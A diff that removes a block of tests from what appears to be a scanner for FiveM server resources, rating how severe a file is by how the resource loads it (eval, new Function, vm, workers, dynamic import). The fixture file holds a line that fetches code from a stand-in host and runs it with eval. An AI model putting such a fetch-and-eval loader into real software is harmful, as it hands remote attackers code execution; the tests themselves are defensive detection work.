@@ -312,37 +312,3 @@ test('a module of a computed name is one of its own resource', () => {
     'a/main.js low server',
   ])
 })
-
-const own = 'GetCurrentResourceName()'
-test.each([
-  ['is only read', `LoadResourceFile(${own}, 'tools/x.js')`, 'medium none lowered'],
-  ['is run by eval', `eval(LoadResourceFile(${own}, 'tools/x.js'))`, 'high none'],
-  [
-    'is run as a function',
-    `const fs = require('fs')
-const text = fs.readFileSync(GetResourcePath(${own}) + '/tools/x.js', 'utf8')
-new Function('require', text)(require)`,
-    'high none',
-  ],
-  ['is run under a computed name', `eval(LoadResourceFile(${own}, pick()))`, 'high none'],
-  ['is run by vm', `require('vm').runInThisContext(LoadResourceFile(${own}, 'tools/x.js'))`, 'high none'],
-  ['is a worker', `new (require('worker_threads').Worker)('./tools/x.js')`, 'high none'],
-  [
-    'is a worker of a path',
-    `new (require('worker_threads').Worker)(GetResourcePath(${own}) + '/tools/x.js')`,
-    'high none',
-  ],
-  ['is imported', `import('./tools/x.js')`, 'high none'],
-  ['is imported under a computed name', `import('./tools/' + pick())`, 'high none'],
-  ['is beside one that is run', `eval(LoadResourceFile(${own}, 'lib/y.js'))`, 'medium none lowered'],
-])('JavaScript of a resource that %s', (_, text, expected) => {
-  const build = "fetch('https://a.example').then((answer) => answer.text()).then(eval)"
-  const files = {
-    'r/fxmanifest.lua': `fx_version 'cerulean'\ngame 'gta5'\nserver_script 'main.js'`,
-    'r/main.js': text,
-    'r/tools/x.js': build,
-    'r/lib/y.js': '',
-  }
-
-  expect(severities(files).find((line) => line.startsWith('r/tools/x.js'))).toBe(`r/tools/x.js ${expected}`)
-})
